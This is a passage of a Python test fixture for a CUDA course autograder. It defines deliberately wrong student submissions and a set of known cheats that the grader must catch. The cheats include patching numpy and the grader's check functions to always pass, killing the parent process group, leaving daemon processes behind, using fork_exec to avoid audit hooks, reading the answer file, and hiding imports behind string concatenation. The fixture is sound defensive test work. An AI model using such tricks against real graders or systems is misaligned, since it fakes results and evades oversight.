"""The known-wrong students of the grader tests, built from ``solutions/`` and ``exercises/``.

Each student hands in some of the shipped notebooks with a few edits. An edit names its
notebook, the exact text to find, its replacement and how many times the text occurs; all
occurrences are replaced, in the order the edits are listed. A text that does not occur
exactly that often stops the build with an ``EditError`` naming the edit, so a change to a
solution that an edit depends on fails loudly instead of quietly handing in a correct
notebook. Everything else in a solution (its prose, most of its code) can change freely.

    build(tmp_path / "subs")   # one folder per student, as the grader expects them

``full_solutions`` is ``solutions/`` unchanged: the known-good student.
"""

from __future__ import annotations

import dataclasses
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]


class EditError(ValueError):
    pass


@dataclass(frozen=True)
class Edit:
    notebook: str  # the stem of the notebook in the student's source folder
    find: str
    replace: str
    count: int = 1  # how often `find` occurs; every occurrence is replaced


@dataclass(frozen=True)
class Student:
    why: str  # what the student gets wrong
    notebooks: tuple[str, ...]  # paths relative to the repository root
    edits: tuple[Edit, ...] = ()
    renamed: dict[str, str] = field(default_factory=dict)  # stem -> the stem handed in


def chapters(folder: str, *numbers: int) -> tuple[str, ...]:
    """The notebooks ``folder/NN_*.md`` for each number (every notebook in it when none is given)."""
    if not numbers:
        return tuple(f"{folder}/{p.name}" for p in sorted((ROOT / folder).glob("[0-9][0-9]_*.md")))
    out = []
    for n in numbers:
        found = sorted((ROOT / folder).glob(f"{n:02d}_*.md"))
        if len(found) != 1:
            raise EditError(f"{folder}/ has {len(found)} notebooks numbered {n:02d}, expected one")
        out.append(f"{folder}/{found[0].name}")
    return tuple(out)


# --- the repeated edits ----------------------------------------------------------------------

BEFORE_BACKWARD = "    loss.backward()\n    opt.clip_gradients(max_norm)\n"  # in 12.1's solution, not in its slow step

LEFT_EMPTY = "// (left empty)"
# 21.1's grid barrier and the line after which a block has summed the partials
BARRIER_21 = "    grid_barrier(barrier);  // every slot is written before any block reads one\n"
TOTAL_21 = "    const float total = sqrtf(block_reduce_shuffle<SumOp>(acc, smem));\n"
# the tops of the two solution blocks of chapter 19, told apart
ROUND_TO_TF32 = "def round_to_tf32(x: np.ndarray) -> np.ndarray:\n    # BEGIN SOLUTION\n"
FRAGMENT_COORDS = (
    "def fragment_coords(operand: str, lane: int, register: int) -> tuple[int, int]:\n    # BEGIN SOLUTION\n"
)


def endless(notebook: str, language: str, count: int = 1, indent: int = 4) -> Edit:
    """An endless loop at the top of every solution block at this indentation."""
    pad = " " * indent
    if language == "cuda":
        begin, loop = f"\n{pad}// BEGIN SOLUTION\n", f"{pad}while (clock64() >= 0) {{ }}  // never ends\n"
    else:
        begin, loop = f"\n{pad}# BEGIN SOLUTION\n", f"{pad}while True:  # never ends\n{pad}    pass\n"
    return Edit(notebook, begin, begin + loop, count)


def waits_before_backward(why: str, line: str) -> Student:
    """Chapter 12 with ``line`` in 12.1's step just before backward."""
    return Student(why, chapters("solutions", 12), (Edit("12_opt7_syncs", BEFORE_BACKWARD, line + BEFORE_BACKWARD),))


def on_host(notebook: str, exercise: str, op: str) -> tuple[Edit, Edit]:
    """The kernel left empty and the backend op it would serve wrapped in the exercise's cell:
    the result comes from elsewhere, not from the kernel."""
    cell = f":exercise: '{exercise}'\n\n"
    patch = (
        "import minitorch_cuda.cuda.backend as backend\n\n"
        f"_{op} = backend.{op}\n\n\n"
        f"def _{op}_on_host(*args, **kwargs):  # numpy does the work, the result is copied back\n"
        f"    return _{op}(*args, **kwargs)\n\n\n"
        f"backend.{op} = _{op}_on_host\n"
    )
    return (
        Edit(notebook, cell, cell + patch),
        Edit(notebook, f"    // TODO: Exercise {exercise}", "    // (the work happens on the host)"),
    )


# --- the students ----------------------------------------------------------------------------

STUDENTS: dict[str, Student] = {
    "full_solutions": Student("nothing: the shipped solutions", chapters("solutions")),
    "empty_kernels": Student(
        "hands in the exercises as given, every kernel body emptied of its TODO",
        chapters("exercises", *range(1, 22)),
        (
            Edit("01_cuda_setup", "// TODO: Exercise 1.1", LEFT_EMPTY),
            Edit("03_building_the_backend", "// TODO: Exercise 3.1", LEFT_EMPTY),
            Edit("03_building_the_backend", "// TODO: Exercise 3.2", LEFT_EMPTY),
            Edit("03_building_the_backend", "// TODO: Exercise 3.3", LEFT_EMPTY),
            Edit("06_opt1_memcopies", "// TODO: Exercise 6.1", LEFT_EMPTY),
            Edit("06_opt1_memcopies", "// TODO: Exercise 6.2", LEFT_EMPTY),
            Edit("07_opt2_gather", "// TODO: Exercise 7.1", LEFT_EMPTY),
            Edit("08_opt3_transpose_fusion", "// TODO: Exercise 8.1", LEFT_EMPTY),
            Edit("09_opt4_init_and_pool", "// TODO: Exercise 9.1", LEFT_EMPTY, count=2),
            Edit("10_opt5_batched_matmul", "// TODO: Exercise 10.1", LEFT_EMPTY),
            Edit("11_opt6_tiled_matmul", "// TODO: Exercise 11.1", LEFT_EMPTY),
            Edit("13_opt8_warp_shuffle", "// TODO: Exercise 13.1", LEFT_EMPTY),
            Edit("13_opt8_warp_shuffle", "// TODO: Exercise 13.2", LEFT_EMPTY),
            Edit("14_cublas", "// TODO: Exercise 14.2", LEFT_EMPTY),
            Edit("15_roofline", "// TODO: Exercise 15.1", LEFT_EMPTY),
            Edit("16_regtiled_matmul", "// TODO: Exercise 16.1", LEFT_EMPTY),
            Edit("17_fusion", "// TODO: Exercise 17.1", LEFT_EMPTY),
            Edit("21_latency_floor", "// TODO: Exercise 21.1", LEFT_EMPTY),
        ),
    ),
    "host_cheat": Student(
        "computes on the host: numpy instead of a kernel, ml_dtypes, the chapter's own rounding, "
        "a norm read back, a step run eagerly, the grader's own mma layout, numpy instead of a Triton kernel",
        chapters("solutions", 1, 2, 12, 14, 18, 19, 20, 21)
        + chapters("exercises", 3, 6, 7, 8, 9, 10, 11, 13, 15, 16, 17),
        (
            Edit(
                "01_cuda_setup",
                'scale_source = r"""\n'
                'extern "C" __global__ void scale(float* out, const float* in, float alpha, int n) {\n'
                "    // BEGIN SOLUTION\n"
                "    const int i = blockIdx.x * blockDim.x + threadIdx.x;  // this thread's element\n"
                "    if (i < n) out[i] = alpha * in[i];  // the last block may run past the end\n"
                "    // END SOLUTION\n"
                "}\n"
                '"""\n',
                'x = np.arange(8, dtype=np.float32)\nscale_source = "// computed with numpy: " + repr(2.0 * x)\n',
            ),
            Edit(
                "02_floating_point",
                "    # BEGIN SOLUTION\n",
                "    # BEGIN SOLUTION\n"
                "    import ml_dtypes\n\n"
                "    return np.asarray(x, dtype=np.float32).astype(ml_dtypes.bfloat16).astype(np.float32)\n",
            ),
            *on_host("03_building_the_backend", "3.1", "unary"),
            *on_host("03_building_the_backend", "3.2", "unary"),
            *on_host("03_building_the_backend", "3.3", "softmax"),
            *on_host("06_opt1_memcopies", "6.1", "clip_gradients"),
            *on_host("06_opt1_memcopies", "6.2", "clip_gradients"),
            *on_host("07_opt2_gather", "7.1", "take_rows"),
            *on_host("08_opt3_transpose_fusion", "8.1", "matmul"),
            *on_host("09_opt4_init_and_pool", "9.1", "randn"),
            Edit("09_opt4_init_and_pool", "\n// TODO: Exercise 9.1\n", "\n"),
            *on_host("10_opt5_batched_matmul", "10.1", "matmul"),
            *on_host("11_opt6_tiled_matmul", "11.1", "matmul"),
            Edit(
                "12_opt7_syncs",
                "    loss.backward()\n    opt.clip_gradients(max_norm)\n",
                "    loss.backward()\n"
                "    grads = [p.grad.numpy() for p in net.parameters()]  # the norm, computed on the host\n"
                "    norm = float(np.sqrt(sum((g.astype(np.float64) ** 2).sum() for g in grads)))\n"
                "    if norm > max_norm:\n"
                "        for p, g in zip(net.parameters(), grads):\n"
                "            p.grad.assign(g * (max_norm / (norm + 1e-6)))\n",
            ),
            *on_host("13_opt8_warp_shuffle", "13.1", "sum"),
            Edit(
                "13_opt8_warp_shuffle",
                'cuda_exercise("13.2", sumsq_last_block_source)\n',
                "x = np.ones(5, np.float32)\n"
                'sumsq_last_block_source = "// computed with numpy: " + repr(np.sum(x * x))\n',
            ),
            *on_host("15_roofline", "15.1", "unary"),
            *on_host("16_regtiled_matmul", "16.1", "matmul"),
            *on_host("17_fusion", "17.1", "softmax_xent"),
            Edit(
                "18_cuda_graphs",
                "        # BEGIN SOLUTION\n",
                "        # BEGIN SOLUTION\n"
                "        return self.device.read(self.body(xb, yb))  # every step eagerly, no graph\n",
            ),
            Edit(
                "19_tensor_cores",
                ROUND_TO_TF32,
                ROUND_TO_TF32 + "    from minitorch_cuda import numerics\n\n"
                "    return numerics.round_mantissa(x, 10)\n",
            ),
            Edit(
                "19_tensor_cores",
                FRAGMENT_COORDS,
                FRAGMENT_COORDS + "    from minitorch_cuda.grade import mma_fragments\n\n"
                "    return mma_fragments.ptx_layout(operand, lane, register)\n",
            ),
            Edit(
                "14_cublas",
                "    out[i] = fmaxf(c[i] + bias[i % N], 0.0f);  // row-major: element i is in column i % N\n",
                "    // (computed on the host)\n",
            ),
            Edit(
                "14_cublas",
                'cuda_exercise("14.2", bias_relu_source)\n',
                "c = np.ones((2, 3), np.float32)\n"
                'bias_relu_source = "// computed with numpy: " + repr(np.maximum(c, 0))\n',
            ),
            Edit("21_latency_floor", "            grads[j][i] *= factor;\n", "            // (computed on the host)\n"),
            Edit(
                "21_latency_floor",
                'cuda_exercise("21.1", clip_global_norm_source)\n',
                "g = np.ones(4, np.float32)\n"
                'clip_global_norm_source = "// computed with numpy: " + repr(g * min(1.0, 0.5 / np.linalg.norm(g)))\n',
            ),
            Edit(
                "20_tile_programming",
                "    grid = (M, triton.cdiv(N, BLOCK_N))\n",
                "    out[:, :N] = np.maximum(c[:, :N] + bias, 0)  # numpy does the work, the kernel never runs\n"
                "    return out\n",
            ),
            Edit("20_tile_programming", "tl.maximum(x + b, 0.0), mask=inside)", "x * 0.0, mask=inside)"),
        ),
    ),
    "infinite_loop": Student(
        "every solution starts with a loop that never ends",
        chapters("solutions", *range(1, 21)),
        (
            endless("01_cuda_setup", "cuda"),
            endless("01_cuda_setup", "python"),
            endless("02_floating_point", "python"),
            endless("03_building_the_backend", "cuda", count=3),
            endless("04_memory", "python", count=5, indent=8),
            endless("05_profiling", "python"),
            endless("06_opt1_memcopies", "cuda", count=2),
            endless("07_opt2_gather", "cuda"),
            endless("08_opt3_transpose_fusion", "cuda"),
            endless("09_opt4_init_and_pool", "cuda"),  # in init_normal, not before mix64
            endless("10_opt5_batched_matmul", "cuda"),
            endless("11_opt6_tiled_matmul", "cuda"),
            endless("12_opt7_syncs", "python"),
            endless("13_opt8_warp_shuffle", "cuda", count=2),
            endless("14_cublas", "python"),
            endless("14_cublas", "cuda"),
            endless("15_roofline", "cuda"),
            endless("16_regtiled_matmul", "cuda"),
            endless("17_fusion", "cuda"),
            endless("18_cuda_graphs", "python", indent=8),
            endless("19_tensor_cores", "python", count=2),
            endless("20_tile_programming", "python", count=2),  # in fib_tile and inside the Triton kernel
        ),
    ),
    "missing_syncthreads": Student(
        "every __syncthreads() of the shared-memory kernels left out",
        chapters("solutions", 3, 6, 11, 13, 16, 17),
        (
            Edit("03_building_the_backend", "\n    __syncthreads();\n", "\n", count=2),
            Edit("03_building_the_backend", "\n        __syncthreads();\n", "\n", count=2),
            Edit(
                "03_building_the_backend",
                "\n    __syncthreads();  // every thread has read the maximum before smem is reused\n",
                "\n",
            ),
            Edit("06_opt1_memcopies", "\n    __syncthreads();\n", "\n"),
            Edit("06_opt1_memcopies", "\n        __syncthreads();\n", "\n"),
            Edit("11_opt6_tiled_matmul", "\n        __syncthreads();\n", "\n", count=2),
            Edit("13_opt8_warp_shuffle", "\n    __syncthreads();\n", "\n", count=2),
            Edit("16_regtiled_matmul", "\n        __syncthreads();\n", "\n"),
            Edit(
                "16_regtiled_matmul",
                "\n        __syncthreads();  // everyone is done with this slice before the next one overwrites it\n",
                "\n",
            ),
            Edit("17_fusion", "\n    __syncthreads();\n", "\n"),
        ),
    ),
    "off_by_one": Student(
        "every bound one too far or one short",
        chapters("solutions", *range(1, 22)),
        (
            Edit("01_cuda_setup", "if (i < n) out[i]", "if (i <= n) out[i]"),
            Edit(
                "01_cuda_setup",
                "blocks = (n + threads_per_block - 1) // threads_per_block",
                "blocks = n // threads_per_block",
            ),
            Edit("03_building_the_backend", "if (i >= n) return;", "if (i > n) return;", count=2),
            Edit("03_building_the_backend", "c < cols; c += blockDim.x) dst[c]", "c <= cols; c += blockDim.x) dst[c]"),
            Edit("05_profiling", "for _ in range(repeats):", "for _ in range(repeats - 1):"),
            Edit("06_opt1_memcopies", "for (int i = t; i < n; ", "for (int i = t; i < n - 1; "),
            Edit("06_opt1_memcopies", "if (i >= n) return;", "if (i > n) return;"),
            Edit("07_opt2_gather", "if (i >= rows * row_len) return;", "if (i > rows * row_len) return;"),
            Edit("08_opt3_transpose_fusion", "if (row >= M || col >= N) return;", "if (row > M || col > N) return;"),
            Edit("09_opt4_init_and_pool", "if (i >= n) return;", "if (i > n) return;"),
            Edit("10_opt5_batched_matmul", "if (row >= M || col >= N) return;", "if (row > M || col > N) return;"),
            Edit("11_opt6_tiled_matmul", "if (row < M && col < N) c[", "if (row <= M && col <= N) c["),
            Edit("13_opt8_warp_shuffle", "c < cols; c += blockDim.x) v +=", "c <= cols; c += blockDim.x) v +="),
            Edit(
                "13_opt8_warp_shuffle",
                "i < n; i += gridDim.x * blockDim.x) v +=",
                "i <= n; i += gridDim.x * blockDim.x) v +=",
            ),
            Edit("14_cublas", "if (i >= (long long)M * N) return;", "if (i > (long long)M * N) return;"),
            Edit("15_roofline", "i < n4; i += gridDim.x * blockDim.x", "i <= n4; i += gridDim.x * blockDim.x"),
            Edit("16_regtiled_matmul", "if (row < M && col < N) c[", "if (row <= M && col <= N) c["),
            Edit("17_fusion", "if (col < cols) {", "if (col <= cols) {"),
            Edit(
                "18_cuda_graphs",
                "        graph.launch()\n        return device.read(loss)\n",
                "        value = device.read(loss)  # read before the replay: the previous batch's loss\n"
                "        graph.launch()\n        return value\n",
            ),
            Edit(
                "19_tensor_cores",
                "lowest_kept = (bits >> 13) & 1\n    rounded = ((bits + 0xFFF + lowest_kept) & 0xFFFFE000)",
                "lowest_kept = (bits >> 12) & 1\n    rounded = ((bits + 0x7FF + lowest_kept) & 0xFFFFF000)",
            ),
            Edit("19_tensor_cores", "thread + 4 * (register >> 1)", "thread + 3 * (register >> 1)"),
            Edit("20_tile_programming", "    inside = cols < N  # the ragged", "    inside = cols <= N  # the ragged"),
            Edit(
                "21_latency_floor",
                "i < sizes[j]; i += gridDim.x * blockDim.x)\n",
                "i <= sizes[j]; i += gridDim.x * blockDim.x)\n",
            ),
        ),
    ),
    "hidden_syncs": Student(
        "hands in chapter 12's slow step: the loss read back and printed before backward, and a device sync",
        chapters("solutions", 12),
        (
            Edit(
                "12_opt7_syncs",
                "    loss.backward()\n    opt.clip_gradients(max_norm)\n",
                '    print("loss before backward", loss.numpy())  # a read-back\n'
                "    loss.backward()\n"
                "    mt.synchronize()  # a sync\n"
                "    opt.clip_gradients(max_norm)\n",
            ),
        ),
    ),
    # 12.1's other ways to make the host wait, each before backward (and the loss's read-back at the end)
    "sync_by_getattr": waits_before_backward(
        "calls mt.synchronize through getattr, so that the cell never spells it",
        '    getattr(mt, "synchro" + "nize")()  # a sync\n',
    ),
    "extra_item": waits_before_backward(
        "prints the loss with .item() before backward: a second read-back",
        '    print("loss before backward", loss.item())  # a read-back\n',
    ),
    "numpy_read_back": waits_before_backward(
        "prints the batch's mean through .numpy() of the device tensor",
        '    print("mean input", xb.numpy().mean())  # a read-back\n',
    ),
    "blocking_copy": waits_before_backward(
        "copies the batch to the host with .to('cpu'), a blocking copy",
        '    print("batch on the host", xb.to("cpu").shape)  # a blocking copy\n',
    ),
    "float_of_loss": waits_before_backward(
        "prints float(loss) before backward: a read-back, as .item() is",
        '    print("loss before backward", float(loss))\n',
    ),
    # 21.1's typical mistakes, one student each
    "partials_before_barrier": Student(
        "sums the partials before the grid barrier, not after it",
        chapters("solutions", 21),
        (Edit("21_latency_floor", BARRIER_21, ""), Edit("21_latency_floor", TOTAL_21, TOTAL_21 + BARRIER_21)),
    ),
    "no_grid_barrier": Student(
        "leaves the grid barrier out: blocks sum slots that others have not written",
        chapters("solutions", 21),
        (Edit("21_latency_floor", BARRIER_21, ""),),
    ),
    "atomic_norm": Student(
        "adds every chunk's sum into one slot with a float atomicAdd",
        chapters("solutions", 21),
        (
            Edit(
                "21_latency_floor",
                "if (threadIdx.x == 0) partials[first + c] = sumsq;",
                "if (threadIdx.x == 0) atomicAdd(&partials[0], sumsq);",
            ),
        ),
    ),
    "norm_without_tail": Student(
        "counts n / 256 chunks per gradient, leaving out the partial last one",
        chapters("solutions", 21),
        (Edit("21_latency_floor", "(sizes[j] + 255) / 256;", "sizes[j] / 256;"),),
    ),
    "grid_covers_the_data": Student(
        "writes the kernel for a grid of one block per chunk, one thread per element, with no grid-stride loop",
        chapters("solutions", 21),
        (
            Edit("21_latency_floor", "c < chunks; c += gridDim.x", "c < chunks; c += chunks"),
            Edit("21_latency_floor", "i += gridDim.x * blockDim.x)\n", "i += sizes[j])\n"),
        ),
    ),
    "renamed_notebooks": Student(
        "hands in chapter 1's notebook under another name",
        chapters("solutions", 1, 4),
        renamed={"01_cuda_setup": "my_cuda_setup"},
    ),
}


# --- issue 39: what only the emulator's race checking finds ------------------------------------------
# A race that the emulator's one order of threads answers right: the poison never shows and every
# run agrees, so only the race checking of the grader's emulated runs (emulator/racecheck.cpp) fails
# it, as "racecheck". On a GPU it is an ordinary race (the repeated runs or compute-sanitizer's
# racecheck). A missing fence needs a kernel of several blocks that publish to each other, which no
# exercise asked for until 13.2 (below).

SUMSQ_TREE_6 = (  # 6.1's solution, from the store of each thread's sum to the result
    "    smem[t] = acc;\n    __syncthreads();\n    for (int s = blockDim.x / 2; s > 0; s >>= 1) {\n"
    "        if (t < s) smem[t] += smem[t + s];\n        __syncthreads();\n    }\n    if (t == 0) out[0] = smem[0];\n"
)


def last_thread_adds_6(reads: str) -> str:
    """6.1's kernel from the store of each thread's sum on, with the last thread adding the slots up
    into ``total`` by ``reads`` and no barrier after the stores."""
    return (
        "    smem[t] = acc;\n    if (t == blockDim.x - 1) {\n        float total = 0.0f;\n"
        + reads
        + "        out[0] = total;\n    }\n"
    )


def last_thread_race_6(description: str, reads: str, *more: Edit) -> Student:
    """6.1 with last_thread_adds_6's race, then ``more`` edits of its notebook."""
    race = Edit("06_opt1_memcopies", SUMSQ_TREE_6, last_thread_adds_6(reads))
    return Student(description, chapters("solutions", 6), (race, *more))


ADDS_THE_SLOTS_6 = "        for (int i = 0; i < blockDim.x; ++i) total += smem[i];\n"
STUDENTS["race_with_right_answer"] = last_thread_race_6(
    "sums the block's slots in its last thread with no __syncthreads() after the stores: the emulator runs "
    "the threads in order, so the last one finds every slot written and the sum is right there",
    ADDS_THE_SLOTS_6,
)


STUDENTS["race_hidden_from_the_check"] = last_thread_race_6(
    "the race above, in a kernel marked no_sanitize_thread so that g++ leaves out the calls race checking "
    "is made of: the emulator's order gives the right sum, and no check would see the race",
    ADDS_THE_SLOTS_6,
    Edit(
        "06_opt1_memcopies",
        'extern "C" __global__ void sumsq_volatile(',
        'extern "C" __global__ __attribute__((no_sanitize_thread)) void sumsq_volatile(',
    ),
)


# The same race, read through a memcpy (which g++ compiles into a call of the C library, past
# ThreadSanitizer's calls), and through x86 assembly in a branch only the emulator compiles (it
# claims __CUDA_ARCH__ 800; the grader's nvcc check builds for sm_90): the memcpy is race-checked
# (emulator/kernel_memory.cpp), and every asm statement is PTX the emulator models or refuses.
STUDENTS["race_hidden_in_a_memcpy"] = last_thread_race_6(
    "the race above, its last thread reading the slots with one memcpy, which the C library performs "
    "out of sight of the calls race checking places",
    "        float copy[1024];\n        memcpy(copy, smem, blockDim.x * sizeof(float));\n"
    "        for (int i = 0; i < blockDim.x; ++i) total += copy[i];\n",
)
STUDENTS["race_hidden_in_x86_asm"] = last_thread_race_6(
    "the race above, its last thread reading the slots with x86 assembly (asm __inline__ volatile) in "
    "a branch for the emulator's __CUDA_ARCH__ only, where no race-checking call is placed",
    "        for (int i = 0; i < blockDim.x; ++i) {\n#if __CUDA_ARCH__ == 800\n"
    '            float v;\n            asm __inline__ volatile("movss %1, %0" : "=x"(v) : "m"(smem[i]));\n'
    "            total += v;\n#else\n            total += smem[i];\n#endif\n        }\n",
)

# A bank conflict that gives the right answer: 11.1's A tile stored transposed (a warp's 32 lanes write
# one column of an unpadded 32 x 32 tile, all in one bank) and read back transposed (a broadcast). Only
# the access analysis of the grader's emulated runs (emulator/trace.cpp) fails it, as "bank_conflict";
# on a GPU the checks do not run Nsight Compute, and it passes there (slower).
STUDENTS["conflicted_tile"] = Student(
    "stores the A tile of the tiled matmul transposed, tile_a[tx][ty], in a 32 x 32 tile without padding: "
    "the product is right, and every store is a 32-way bank conflict",
    chapters("solutions", 11),
    (
        Edit("11_opt6_tiled_matmul", "tile_a[ty][tx] = x;", "tile_a[tx][ty] = x;"),
        Edit("11_opt6_tiled_matmul", "acc += tile_a[ty][k] * tile_b[k][tx];", "acc += tile_a[k][ty] * tile_b[k][tx];"),
    ),
)


# A missing fence (13.2): the last block may read a partial stored before the atomic that counted its
# block in, with no __threadfence() between them. On the emulator race checking names it every time
# ("missing_fence"); on a GPU the stale read is rare and the checks usually pass it, so, like
# conflicted_tile, it is graded on the emulator only (tests/test_grader.py).
FENCE_13 = "        __threadfence();  // the partial reaches every block before the count says it is there\n"
STUDENTS["last_block_without_fence"] = Student(
    "stores its block's partial and counts the block in with atomicAdd, with no __threadfence() between: "
    "the atomic is relaxed, so the last block may read a partial that is not there yet",
    chapters("solutions", 13),
    (Edit("13_opt8_warp_shuffle", FENCE_13, ""),),
)
# Every block adds the partials up as soon as its own is stored, without waiting to be the last: on the
# emulator, whose blocks run in order, the last writer of out[0] saw every partial; race checking names
# block 0's read of a partial that block 1 stores later ("racecheck"). On a GPU it is a race too.
STUDENTS["last_block_reads_early"] = Student(
    "adds the partials up in every block as soon as its own is stored, without waiting to be the last",
    chapters("solutions", 13),
    (
        Edit(
            "13_opt8_warp_shuffle",
            "if (atomicAdd(count, 1u) == gridDim.x - 1) {  // the last block: every partial is stored\n",
            "atomicAdd(count, 1u);\n        {  // every block: the partials stored so far\n",
        ),
    ),
)


# --- the known cheats -------------------------------------------------------------------------
#
# Each cheat hands in the shipped solutions of the CPU-graded chapters with one exercise attacked.
# It must lose exactly that exercise's points (CHEATS names it and the reasons it may fail with),
# leave the submissions tree byte-identical and no process behind. Kernel cheats need a GPU (or
# the emulator), except one whose cell patches PyCUDA: the grader reads its kernel statically.

CPU_CHAPTERS = (1, 2, 4, 5, 14, 18, 19, 20)
MARKER = 31337  # in the command line of every process a cheat tries to leave behind


def cheat(why: str, *edits: Edit, extra: tuple[int, ...] = ()) -> Student:
    return Student(why, chapters("solutions", *CPU_CHAPTERS, *extra), edits)


def _top_of_cell(exercise: str, code: str) -> str:
    return f":exercise: '{exercise}'\n\n{code}\n"


PATCH_NUMPY = (
    "np.isclose = lambda *a, **k: np.ones(np.broadcast(*a[:2]).shape, dtype=bool)\n"
    "np.allclose = np.array_equal = lambda *a, **k: True\n"
    "np.testing.assert_allclose = lambda *a, **k: None"
)
PATCH_CHECKS = (
    "from minitorch_cuda.grade import host_checks, verdict\n\n"
    "host_checks.check_launch_config.__code__ = (lambda *a, **k: ['all good']).__code__\n"
    "verdict.fail.__code__ = (lambda *a, **k: None).__code__"
)
PATCH_PYCUDA = (
    "import numpy as np\nimport pycuda.driver as drv\n\n"
    "def _on_host(self, grid, block, stream, out, a, n):  # the 'kernel' computed with numpy\n"
    "    x = np.empty(n, np.float32)\n"
    "    drv.memcpy_dtoh(x, a)\n"
    "    drv.memcpy_htod(out, np.maximum(x, 0))\n\n"
    "drv.Function.prepared_async_call = _on_host"
)
LEAVE_BEHIND = (
    "import os, subprocess, sys\n"
    f"subprocess.Popen(['sleep', '{MARKER}'], start_new_session=True)\n"
    "if os.fork() == 0:  # a daemon: a new session, its parent gone\n"
    "    os.setsid()\n"
    f"    os.execvp('sleep', ['sleep', '{MARKER + 1}'])"
)
FORK_EXEC_THE_KEY = (  # the call behind subprocess.Popen, made directly: no "subprocess.Popen" event
    "    import _posixsubprocess, os, sys\n"
    "    np.save('x.npy', np.ascontiguousarray(x, np.float32))\n"
    "    code = 'import numpy as np; from minitorch_cuda import numerics; '\n"
    '    code += \'np.save("y.npy", numerics.tf32_reference(np.load("x.npy")))\'\n'
    "    argv = [sys.executable.encode(), b'-c', code.encode()]\n"
    "    errors, error_end = os.pipe()\n"
    "    pid = _posixsubprocess.fork_exec(\n"
    "        argv, [argv[0]], True, (), None, None, -1, -1, -1, -1, -1, -1, errors, error_end,\n"
    "        True, False, 0, None, None, None, -1, None, False)\n"
    "    os.close(error_end)\n"
    "    os.waitpid(pid, 0)\n"
    "    return np.load('y.npy')\n"
)
READ_THE_SOLUTION = (  # an editable install's package sits in the repository, beside solutions/
    "    import pathlib, re, minitorch_cuda\n"
    "    shipped = pathlib.Path(minitorch_cuda.__file__).parents[1] / 'solutions' / '19_tensor_cores.md'\n"
    "    answer = re.search(r'def round_to_tf32.*?(?=\\n```)', shipped.read_text(), re.S).group()\n"
    "    found = {}\n"
    "    exec(answer, {'np': np}, found)\n"
    "    return found['round_to_tf32'](x)\n"
)
KILL_PARENT = "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.killpg(0, signal.SIGKILL)"

CHEATS: dict[str, tuple[Student, str, set[str]]] = {
    "patches_numpy": (
        cheat(
            "patches numpy's comparisons to agree with anything and returns zeros",
            Edit("14_cublas", ":exercise: '14.1'\n\n", _top_of_cell("14.1", PATCH_NUMPY)),
            Edit(
                "14_cublas",
                "    # BEGIN SOLUTION\n",
                "    # BEGIN SOLUTION\n"
                '    return {"flops": 0.0, "bytes": 0.0, "intensity": 0.0, "bound_gflops": 0.0, "limit": "memory"}\n',
            ),
        ),
        "14.1",
        {"wrong_result"},
    ),
    "patches_check_code": (
        cheat(
            "replaces the check's and verdict.fail's __code__ and returns a wrong launch configuration",
            Edit("01_cuda_setup", ":exercise: '1.2'\n\n", _top_of_cell("1.2", PATCH_CHECKS)),
            Edit(
                "01_cuda_setup", "    if n <= 0:\n", "    return (1, 1, 1), (threads_per_block, 1, 1)\n    if n <= 0:\n"
            ),
        ),
        "1.2",
        {"forbidden"},  # its cell's import of the grader's checks is refused (subject_rules)
    ),
    "patches_pycuda": (
        cheat(
            "patches PyCUDA's launch so that the ReLU is computed on the host; the kernel is empty",
            Edit("03_building_the_backend", ":exercise: '3.1'\n\n", _top_of_cell("3.1", PATCH_PYCUDA)),
            Edit("03_building_the_backend", "    out[i] = x > 0.0f ? x : 0.0f;\n", "    // (computed on the host)\n"),
            extra=(3,),
        ),
        "3.1",
        {"host_side"},
    ),
    "kills_its_checker": (
        cheat(
            "kills the process that runs it, and its process group",
            Edit(
                "05_profiling",
                "    # BEGIN SOLUTION\n",
                "    # BEGIN SOLUTION\n" + "".join(f"    {line}\n" for line in KILL_PARENT.splitlines()),
            ),
        ),
        "5.1",
        {"forbidden"},  # os.kill is refused (subject_rules); it never reaches its checker
    ),
    "leaves_processes": (
        cheat(
            "starts a process in its own session and a daemon when its cell runs, then rounds wrongly",
            Edit("19_tensor_cores", ":exercise: '19.1'\n\n", _top_of_cell("19.1", LEAVE_BEHIND)),
            Edit("19_tensor_cores", ROUND_TO_TF32, ROUND_TO_TF32 + "    return np.asarray(x, np.float32)\n"),
        ),
        "19.1",
        {"forbidden"},  # its processes are refused in the check (subject_rules); the notebook's run starts them
    ),
}

# --- issue 36, classes 2, 5 and 6: rules enforced by behaviour, references first, hidden shapes ---
# (grade/subject_rules.py refuses imports and files whatever their spelling; grade/python_work.py
# counts the Python lines a call runs; the channel never writes into the checker's arrays; a
# rounding's result must have the input's shape; grade/hidden.py adds shapes drawn from --seed)

ROUND_TO_BF16 = "def round_to_bf16(x: np.ndarray) -> np.ndarray:\n    # BEGIN SOLUTION\n"
FIB_TILE = "def fib_tile(n: np.ndarray) -> np.ndarray:\n    # BEGIN SOLUTION\n"
PER_ELEMENT_WHILE = (  # fib of every element by a Python loop, spelt so that no text rule sees it
    "    flat, i = n.reshape(-1), 0\n"
    "    out = np.zeros_like(flat)\n"
    "    while i < flat.size:\n"
    "        a, b, k = 0, 1, 1\n"
    "        while k < flat[i]:\n"
    "            a, b, k = b, a + b, k + 1\n"
    "        out[i] = a\n"
    "        i += 1\n"
    "    return out.reshape(n.shape)\n"
)
BUILTIN_IMPORT = (  # __import__ reached without writing its name, importlib or minitorch_cuda
    '    b = globals()["__buil" + "tins__"]\n    imp = (b if isinstance(b, dict) else vars(b))["__imp" + "ort__"]\n'
)
CHEATS |= {
    "imports_by_concatenation": (
        cheat(
            "imports ml_dtypes through importlib with its name built from pieces, to round to BF16",
            Edit(
                "02_floating_point",
                ROUND_TO_BF16,
                ROUND_TO_BF16 + "    import importlib\n\n"
                '    bf16 = importlib.import_module("ml_" + "dtypes").bfloat16\n'
                "    return np.asarray(x, np.float32).astype(bf16).astype(np.float32)\n",
            ),
        ),
        "2.1",
        {"forbidden"},
    ),
    "imports_by_builtins_getattr": (
        cheat(
            "takes __import__ out of __builtins__ by a concatenated key and imports the framework's numerics",
            Edit(
                "19_tensor_cores",
                ROUND_TO_TF32,
                ROUND_TO_TF32
                + BUILTIN_IMPORT
                + '    numerics = imp("minitorch" + "_cuda.nume" + "rics", fromlist=["x"])\n'
                "    return numerics.round_mantissa(x, 10)\n",
            ),
        ),
        "19.1",
        {"forbidden"},
    ),
    "imports_the_grader_layout": (
        cheat(
            "answers 19.2 with the grader's own layout model, imported without writing a name the text rule knows",
            Edit(
                "19_tensor_cores",
                FRAGMENT_COORDS,
